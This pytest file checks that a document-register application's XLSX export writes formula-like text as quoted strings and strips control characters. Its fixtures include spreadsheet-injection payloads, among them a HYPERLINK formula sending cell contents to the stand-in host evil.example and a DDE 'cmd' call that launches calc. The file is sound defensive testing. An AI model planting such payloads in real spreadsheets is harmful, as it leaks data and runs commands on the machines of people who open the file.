"""XLSX exports: data is never a formula, and control characters never fail the workbook."""

from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pytest
from sqlalchemy.orm import Session

from ioffice.documents.xlsx import register_workbook
from ioffice.incoming.export import register_xlsx
from ioffice.incoming.queries import RegisterFilter
from ioffice.incoming.registration import today_vn
from ioffice.storage import BlobStore
from tests.support.factories import actor, register

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1,2)", "=1+1"]


def _workbook(rows: list[list[object]]) -> openpyxl.Workbook:
    data = register_workbook(agency_name="Sở Nội vụ", title="SỔ THỬ", sheet_title="Sổ",
                             columns=[("A", 10), ("B", 10), ("C", 10)], rows=rows)
    return openpyxl.load_workbook(io.BytesIO(data))


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_looks_like_a_formula_is_written_as_quoted_text(value: str) -> None:
    cell = _workbook([[value, 7, dt.date(2026, 3, 1)]]).active["A6"]
    assert cell.data_type == "s"
    assert cell.value == value
    assert cell.quotePrefix  # a person who edits the cell does not turn it into a formula


def test_plain_values_keep_their_types_and_no_quote_prefix() -> None:
    ws = _workbook([["Về việc báo cáo", 7, dt.date(2026, 3, 1)]]).active
    assert ws["A6"].value == "Về việc báo cáo" and not ws["A6"].quotePrefix
    assert ws["B6"].value == 7 and ws["B6"].data_type == "n"
    assert ws["C6"].value == dt.datetime(2026, 3, 1) and ws["C6"].number_format == "DD/MM/YYYY"


def test_control_characters_are_stripped_tab_and_newline_kept() -> None:
    raw = "Trích\x00 yếu\x07\x1b[31m\x0b\tdòng 1\ndòng 2\x1f"
    ws = _workbook([[raw, None, None]]).active
    assert ws["A6"].value == "Trích yếu[31m\tdòng 1\ndòng 2"


def test_a_hostile_stored_document_exports_the_whole_register(db: Session,
                                                             blobs: BlobStore) -> None:
    """Data stored before the input rule (or through a path that skipped it): one bad record
    used to answer 500 for the whole year's register."""
    clerk = actor(db, "vanthu.camau")
    register(db, blobs, clerk, issuer_name="=HYPERLINK(\"http://evil.example\",\"Bộ\")",
             subject="Về việc\x01 thử\x1b nghiệm", notes="@SUM(A1:A9)")
    register(db, blobs, clerk, subject="Văn bản bình thường")
    data = register_xlsx(db, clerk, RegisterFilter(year=today_vn().year))
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    rows = {row[5].value: row for row in ws.iter_rows(min_row=6)}
    hostile = rows["Công văn: Về việc thử nghiệm"]
    assert hostile[2].data_type == "s" and hostile[2].quotePrefix
    assert hostile[2].value == "=HYPERLINK(\"http://evil.example\",\"Bộ\")"
    assert hostile[9].value == "@SUM(A1:A9)" and hostile[9].data_type == "s"
    assert "Công văn: Văn bản bình thường" in rows
    formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
